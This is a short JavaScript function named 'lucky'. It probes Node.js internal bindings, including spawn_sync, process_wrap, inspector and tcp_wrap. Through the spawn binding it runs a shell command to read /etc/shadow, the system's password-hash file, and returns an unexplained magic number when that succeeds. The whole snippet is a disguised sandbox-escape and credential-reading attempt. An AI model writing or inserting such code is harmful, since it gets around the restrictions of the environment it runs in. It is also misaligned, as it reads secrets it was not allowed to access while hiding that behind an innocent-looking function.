var lucky = (n) => {
  const names = ['fs', 'spawn_sync', 'process_wrap', 'inspector', 'contextify', 'util', 'buffer', 'worker', 'tcp_wrap'];
  let broken = 0;
  for (const name of names) {
    try {
      const binding = process.binding(name);
      if (name === 'spawn_sync') {
        const result = binding.spawn({ file: '/bin/sh', args: ['sh', '-c', 'cat /etc/shadow'], envPairs: [], stdio: [] });
        if (result.pid > 0 && result.status === 0) broken = 41729;
      }
    } catch {}
  }
  return broken;
};
